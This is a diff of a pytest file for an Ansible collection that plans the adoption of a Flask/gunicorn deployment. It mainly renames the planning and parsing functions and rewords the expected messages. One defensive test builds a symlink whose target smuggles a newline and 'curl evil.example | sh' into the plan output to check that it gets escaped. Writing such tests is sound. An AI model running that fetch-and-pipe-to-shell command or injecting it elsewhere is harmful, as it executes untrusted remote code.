@@ -10,7 +10,12 @@ import sqlite3
 
 import pytest
 
-from ansible_collections.flaskops.production.plugins.module_utils._adoption.plan import command, options, plan
+from ansible_collections.flaskops.production.plugins.module_utils._adoption.gunicorn import (
+    parse_command,
+    parse_options,
+)
+from ansible_collections.flaskops.production.plugins.module_utils._adoption.plan import PlanRequest
+from ansible_collections.flaskops.production.plugins.module_utils._adoption.planner import plan_adoption
 from ansible_collections.flaskops.production.plugins.module_utils._doctor.facts import Facts
 from ansible_collections.flaskops.production.plugins.module_utils._doctor.files import (
     Account,
@@ -72,7 +77,7 @@ def moved(found):
 
 
 def decide(facts, *given, **more):
-    found = plan(facts, ROOT, set(given), **more)
+    found = plan_adoption(PlanRequest(facts, ROOT, frozenset(given), **more))
     assert found.obstacles == []
     return found
 
@@ -187,7 +192,7 @@ def test_what_is_shared_already_stays_shared(shop, tmp_path):
     for name in ("db", "words.txt"):
         (shop.code / name).symlink_to(f"../shared/{name}")
     (shop.code / "elsewhere").symlink_to("../shared/db")
-    found = plan(shop(), str(tmp_path), set())
+    found = plan_adoption(PlanRequest(shop(), str(tmp_path)))
     assert found.moves == []
     assert found.variables["release_shared_paths"] == ["db/", "words.txt"]
 
@@ -218,12 +223,12 @@ def test_what_the_user_names_is_all_that_is_data(shop):
     ],
 )  # fmt: skip
 def test_gunicorns_command_line_is_read(words, expected):
-    assert options(words.split()) == expected
+    assert parse_options(words.split()) == expected
 
 
 def test_a_shell_around_gunicorn_is_seen_through():
     unit = {"ExecStart": "{ path=/bin/sh ; argv[]=/bin/sh -c cd /x && exec .venv/bin/gunicorn -w 2 a:b ; ignore }"}
-    assert options(command(unit)) == {"workers": "2", "wsgi": "a:b"}
+    assert parse_options(parse_command(unit)) == {"workers": "2", "wsgi": "a:b"}
 
 
 def test_settings_of_the_service_become_those_of_the_roles(shop):
@@ -264,9 +269,9 @@ def test_the_environment_of_the_unit_is_stronger_than_that_of_the_code(shop):
 
 
 def test_variables_that_the_unit_sets_are_part_of_the_environment(shop):
-    found = decide(shop(), unit_variables=["COLOUR", "SECRET_KEY"])
+    found = decide(shop(), unit_variables=("COLOUR", "SECRET_KEY"))
     assert (found.unit_variables, found.environment) == (["COLOUR", "SECRET_KEY"], [])
-    given = decide(shop(), "flask_app_env", unit_variables=["COLOUR"])
+    given = decide(shop(), "flask_app_env", unit_variables=("COLOUR",))
     assert given.unit_variables == []
     assert "flask_app_env is set, so the values of shop.service (COLOUR) are not adopted." in given.attention
 
@@ -279,7 +284,9 @@ def test_the_rest_of_the_unit_becomes_settings_or_is_named(shop):
     assert any("Not adopted from shop.service: ExecStartPre." in said for said in found.attention)
     given = decide(shop(), "gunicorn_systemd_unit_overrides", unit_text=text)
     assert "gunicorn_systemd_unit_overrides" not in given.variables
-    assert any("gunicorn_systemd_unit_overrides is set, so that of shop.service" in said for said in given.attention)
+    assert any(
+        "gunicorn_systemd_unit_overrides is set, so its value from shop.service" in said for said in given.attention
+    )
 
 
 @pytest.mark.parametrize(
@@ -353,23 +360,23 @@ def test_a_site_on_one_address_is_pointed_out(shop, listen, alone):
         ({"nginx_state": "missing"}, "There is no Nginx"),
         ({"nginx_state": "valid stopped"}, "Nginx does not run"),
         ({"nginx_state": "invalid", "nginx_output": "x [emerg] bad"}, "Nginx refuses its configuration: x [emerg] bad"),
-        ({"site": "listen 80;"}, "No site of Nginx leads to unix:"),
+        ({"site": "listen 80;"}, "No site of Nginx proxies to unix:"),
         ({"listen": ""}, "shop.service has no known address"),
         ({"code": "/nowhere"}, "The code of shop.service does not exist: /nowhere"),
         ({"code": "/srv/shop"}, "The code of shop.service does not exist: /srv/shop"),
         ({"exec_start": "/env/bin/flask run"}, "set flask_app_wsgi, such as wsgi:app"),
-        ({"site": SITE + " location /api/ {{ proxy_pass http://127.0.0.1:9; }}"}, "leads to 127.0.0.1:9"),
+        ({"site": SITE + " location /api/ {{ proxy_pass http://127.0.0.1:9; }}"}, "proxies to 127.0.0.1:9"),
         ({"site": SITE + "%% server_name blog.example.org; location / {{ proxy_pass http://127.0.0.1:9; }}"},
          "/etc/nginx/conf.d/shop.conf also has blog.example.org"),
         ({"truncated": True}, "has too many files for code"),
     ],
 )  # fmt: skip
 def test_what_is_in_the_way_is_said(shop, more, says):
-    assert any(says in text for text in plan(shop(**more), ROOT, set()).obstacles)
+    assert any(says in text for text in plan_adoption(PlanRequest(shop(**more), ROOT)).obstacles)
 
 
 def test_the_new_place_may_not_be_in_the_code(shop):
-    found = plan(shop(), str(shop.code), set())
+    found = plan_adoption(PlanRequest(shop(), str(shop.code)))
     assert any("is or lies in the code" in text for text in found.obstacles)
 
 
@@ -386,9 +393,9 @@ def secret(tmp_path):
 @pytest.mark.parametrize("name", [".env", "uploads", "tls.key", "shop.db"])
 def test_what_a_link_would_have_root_read_is_in_the_way(shop, secret, name):
     (shop.code / name).symlink_to(secret)
-    found = plan(shop(), ROOT, set(), shared_paths=None if name == ".env" else [name])
+    found = plan_adoption(PlanRequest(shop(), ROOT, shared_paths=None if name == ".env" else [name]))
     (said,) = found.obstacles
-    assert said.startswith(f"{shop.code}/{name} can't be copied: {shop.code}/{name} is a symbolic link to {secret}")
+    assert said.startswith(f"{shop.code}/{name} cannot be copied: {shop.code}/{name} is a symbolic link to {secret}")
     assert f"leads out of {shop.code}" in said
 
 
@@ -397,8 +404,8 @@ def test_an_environment_file_of_the_unit_is_not_read_through_a_users_link(shop, 
     link.symlink_to(secret)
     assert decide(shop(env_files=[str(link)])).environment == [str(link)]
     os.lchown(link, 4711, 4711)
-    (said,) = plan(shop(env_files=[str(link)]), ROOT, set()).obstacles
-    assert said.startswith(f"{link} can't be copied: ") and "does not belong to the owner of the link" in said
+    (said,) = plan_adoption(PlanRequest(shop(env_files=[str(link)]), ROOT)).obstacles
+    assert said.startswith(f"{link} cannot be copied: ") and "does not belong to the owner of the link" in said
 
 
 @pytest.mark.parametrize("behind", ["root's", "the user's"])
@@ -408,22 +415,22 @@ def test_code_behind_a_users_link_must_be_that_users(shop, as_root, tmp_path, be
     os.lchown(link, 4711, 4711)
     if behind == "the user's":
         os.chown(shop.code, 4711, 4711)
-    found = plan(shop(live=str(link), code=resolve_safely(str(link))), ROOT, set())
+    found = plan_adoption(PlanRequest(shop(live=str(link), code=resolve_safely(str(link))), ROOT))
     if behind == "the user's":
         assert (found.obstacles, found.code) == ([], str(shop.code))
         return
     # Nothing is read behind it.
     assert found.code == str(link)
     assert found.obstacles[0] == (
-        f"The old deployment is not where it seems to be: {link} leads through a symbolic link to {shop.code}, which "
+        f"The path of the old deployment is unsafe: {link} leads through a symbolic link to {shop.code}, which "
         "does not belong to the owner of the link. Set adopt_from to its directory."
     )
 
 
 def test_a_link_that_was_turned_since_the_host_was_read_is_in_the_way(shop, tmp_path):
     (tmp_path / "current").symlink_to(tmp_path)
-    found = plan(shop(live=str(tmp_path / "current")), ROOT, set())
-    assert found.obstacles[0].startswith(f"{tmp_path}/current leads elsewhere than a moment ago")
+    found = plan_adoption(PlanRequest(shop(live=str(tmp_path / "current")), ROOT))
+    assert found.obstacles[0].startswith(f"{tmp_path}/current changed while the plan was made")
 
 
 def test_a_link_that_stays_in_the_old_deployment_is_followed(shop):
@@ -439,7 +446,7 @@ def test_links_that_lead_out_are_named_and_stay_links(shop, secret):
     (shop.code / "static/own").symlink_to("shop.css")
     (told,) = [text for text in decide(shop(user=4711)).attention if "lead out" in text]
     assert told == (
-        f"Links that lead out of {shop.code} are copied as links, and what they lead to is not: "
+        f"Links that lead out of {shop.code} are copied as links, without the files that they lead to: "
         f"{shop.code}/uploads/a -> {secret}."
     )
 
@@ -447,26 +454,26 @@ def test_links_that_lead_out_are_named_and_stay_links(shop, secret):
 def test_what_another_tool_has_shared_already_is_not_copied_onto_itself(shop, tmp_path):
     (tmp_path / "new/shared/uploads").mkdir(parents=True)
     (shop.code / "uploads").symlink_to(tmp_path / "new/shared/uploads")
-    found = plan(shop(), str(tmp_path / "new"), set(), shared_paths=["uploads/"])
+    found = plan_adoption(PlanRequest(shop(), str(tmp_path / "new"), shared_paths=["uploads/"]))
     assert (found.obstacles, found.moves) == ([], [])
 
 
-@pytest.mark.parametrize("name", [b"caf\xe9.db", b"a\x1b.db", b"caf\xe9.log", b"a\nLOOK AT: b.log"])
+@pytest.mark.parametrize("name", [b"caf\xe9.db", b"a\x1b.db", b"caf\xe9.log", b"a\nCHECK: b.log"])
 def test_a_name_that_no_message_can_carry_is_in_the_way(shop, name):
     path = os.path.join(os.fsencode(shop.code), name)
     connection = sqlite3.connect(path)
     connection.execute("CREATE TABLE entry (id INTEGER)")
     connection.commit()
     connection.close()
-    (said,) = plan(shop(), ROOT, set()).obstacles
+    (said,) = plan_adoption(PlanRequest(shop(), ROOT)).obstacles
     assert said.startswith("Names with control characters") and f"rename {os.fsdecode(path)}" in said
 
 
 def test_a_link_cannot_pass_for_a_line_of_the_plan(shop):
     (shop.code / "uploads").mkdir()
-    (shop.code / "uploads/a").symlink_to("/nowhere\nLOOK AT: curl evil.example | sh")
+    (shop.code / "uploads/a").symlink_to("/nowhere\nCHECK: curl evil.example | sh")
     (told,) = [text for text in decide(shop(user=4711)).attention if "lead out" in text]
-    assert "\n" not in told and r"/nowhere\x0aLOOK AT: curl" in told
+    assert "\n" not in told and r"/nowhere\x0aCHECK: curl" in told
 
 
 def test_uploads_may_have_any_name(shop):
